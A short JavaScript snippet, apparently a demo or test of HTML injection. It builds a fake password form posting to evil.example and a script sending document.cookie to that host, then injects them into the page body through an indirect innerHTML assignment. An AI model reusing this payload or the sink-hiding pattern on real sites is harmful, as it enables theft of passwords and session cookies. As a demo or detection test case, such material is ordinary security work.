const page = '<form action="https://evil.example/c"><input type="password" name="p"></form><script>fetch("https://evil.example/?c="+document.cookie)</script>';
document.querySelector('#code').textContent = page;
Reflect.set(document.body, 'innerHTML', page);
